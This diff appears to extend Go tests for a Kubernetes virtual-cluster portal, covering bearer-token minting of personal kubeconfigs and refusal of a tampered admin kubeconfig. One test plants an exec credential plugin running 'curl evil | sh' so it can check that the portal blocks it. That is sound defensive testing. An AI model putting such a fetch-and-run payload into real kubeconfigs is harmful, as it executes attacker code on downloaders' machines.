@@ -25,6 +25,8 @@ import (
 	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
 	"k8s.io/client-go/kubernetes"
 	"k8s.io/client-go/rest"
+	"k8s.io/client-go/tools/clientcmd"
+	clientcmdapi "k8s.io/client-go/tools/clientcmd/api"
 	"sigs.k8s.io/controller-runtime/pkg/client"
 
 	"github.com/kubenest-io/kubenest/api/v1alpha1"
@@ -192,8 +194,9 @@ func TestPortal(t *testing.T) {
 			}
 		}
 		resp, data := a.get200(t, "/ns/team-a/vc/alpha/kubeconfig")
-		if data != "admin kubeconfig of alpha" || !strings.Contains(resp.Header.Get("Content-Disposition"), `filename="alpha.kubeconfig"`) {
-			t.Errorf("admin kubeconfig: %q %v", data, resp.Header)
+		if admin, err := kubeconfig.Parse([]byte(data)); err != nil || admin.Token != "admin-token-of-alpha" ||
+			!strings.Contains(resp.Header.Get("Content-Disposition"), `filename="alpha.kubeconfig"`) {
+			t.Errorf("admin kubeconfig: %v %q %v", err, data, resp.Header)
 		}
 		resp, data = a.post(t, "/ns/team-a/vc/alpha/personal-kubeconfig", url.Values{"csrf": {a.csrf}})
 		if resp.StatusCode != http.StatusOK {
@@ -217,6 +220,84 @@ func TestPortal(t *testing.T) {
 		roots.AppendCertsFromPEM(kc.CAPEM)
 		if _, err := cert.Verify(x509.VerifyOptions{Roots: roots, KeyUsages: []x509.ExtKeyUsage{x509.ExtKeyUsageClientAuth}}); err != nil {
 			t.Errorf("personal certificate not signed by the kubeconfig's CA: %v", err)
+		}
+	})
+
+	t.Run("personal kubeconfig for programs, with a bearer token", func(t *testing.T) {
+		call := func(token, path string) (int, string) {
+			req, err := http.NewRequest(http.MethodPost, w.url+path, nil)
+			if err != nil {
+				t.Fatal(err)
+			}
+			if token != "" {
+				req.Header.Set("Authorization", "Bearer "+token)
+			}
+			resp, err := http.DefaultClient.Do(req)
+			if err != nil {
+				t.Fatal(err)
+			}
+			defer resp.Body.Close()
+			body, _ := io.ReadAll(resp.Body)
+			return resp.StatusCode, string(body)
+		}
+		const alphaPath = "/api/v1/namespaces/team-a/virtualclusters/alpha/personal-kubeconfig"
+		code, body := call(w.alice, alphaPath)
+		if code != http.StatusOK {
+			t.Fatalf("alice: %d %s", code, body)
+		}
+		if kc, err := kubeconfig.Parse([]byte(body)); err != nil || kc.User != "host:system:serviceaccount:team-a:alice" || kc.Server != alpha.Status.Endpoint {
+			t.Errorf("alice's personal kubeconfig: %v %+v", err, kc)
+		}
+		for _, tc := range []struct {
+			who, token, path string
+			want             int
+			says             string
+		}{
+			{"nobody", "", alphaPath, http.StatusUnauthorized, "bearer token"},
+			{"a made-up token", "not-a-token", alphaPath, http.StatusUnauthorized, "did not accept this token"},
+			{"bob", w.bob, alphaPath, http.StatusForbidden, "may not mint a personal kubeconfig for alpha"},
+			{"alice, for bob's", w.alice, "/api/v1/namespaces/team-b/virtualclusters/beta/personal-kubeconfig", http.StatusForbidden, "may not"},
+			{"alice, for none", w.alice, "/api/v1/namespaces/team-a/virtualclusters/nope/personal-kubeconfig", http.StatusNotFound, "no virtual cluster nope"},
+		} {
+			if code, body := call(tc.token, tc.path); code != tc.want || !strings.Contains(body, tc.says) {
+				t.Errorf("%s: %d %q, want %d saying %q", tc.who, code, body, tc.want, tc.says)
+			}
+		}
+	})
+
+	t.Run("an admin kubeconfig Secret changed by someone else is not handed out", func(t *testing.T) {
+		// Anyone who may edit the namespace may write the Secret: a kubeconfig that runs a
+		// command on the downloader's machine must not leave the portal.
+		s := &corev1.Secret{}
+		key := client.ObjectKey{Namespace: "team-a", Name: "alpha-kubeconfig"}
+		if err := w.env.Client.Get(ctx, key, s); err != nil {
+			t.Fatal(err)
+		}
+		good := s.Data[controlplane.KeyKubeconfig]
+		k, err := clientcmd.Load(good)
+		if err != nil {
+			t.Fatal(err)
+		}
+		for _, u := range k.AuthInfos {
+			u.Exec = &clientcmdapi.ExecConfig{Command: "/bin/sh", Args: []string{"-c", "curl evil | sh"}, APIVersion: "client.authentication.k8s.io/v1"}
+		}
+		evil, err := clientcmd.Write(*k)
+		if err != nil {
+			t.Fatal(err)
+		}
+		s.Data[controlplane.KeyKubeconfig] = evil
+		if err := w.env.Client.Update(ctx, s); err != nil {
+			t.Fatal(err)
+		}
+		t.Cleanup(func() {
+			s.Data[controlplane.KeyKubeconfig] = good
+			_ = w.env.Client.Update(ctx, s)
+		})
+		a := w.signIn(t, w.alice)
+		req, _ := http.NewRequest(http.MethodGet, w.url+"/ns/team-a/vc/alpha/kubeconfig", nil)
+		resp, body := a.do(t, req)
+		if resp.StatusCode != http.StatusConflict || !strings.Contains(body, "an exec credential plugin") || strings.Contains(body, "curl evil") {
+			t.Errorf("a tampered admin kubeconfig: %d %s", resp.StatusCode, body)
 		}
 	})
 
@@ -489,8 +570,13 @@ func (w *world) readyVC(t *testing.T, ctx context.Context, ns, name string) *v1a
 	if err != nil {
 		t.Fatal(err)
 	}
+	admin, err := kubeconfig.Build(kubeconfig.Config{ClusterName: name, Server: "https://203.0.113.7:31443", CAPEM: a.CABundle(),
+		User: "admin", Token: "admin-token-of-" + name})
+	if err != nil {
+		t.Fatal(err)
+	}
 	kc := &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Name: name + "-kubeconfig", Namespace: ns},
-		Data: map[string][]byte{controlplane.KeyKubeconfig: []byte("admin kubeconfig of " + name)}}
+		Data: map[string][]byte{controlplane.KeyKubeconfig: admin}}
 	for _, s := range []*corev1.Secret{ca, kc} {
 		s.TypeMeta = metav1.TypeMeta{}
 		if err := w.env.Client.Create(ctx, s); err != nil {
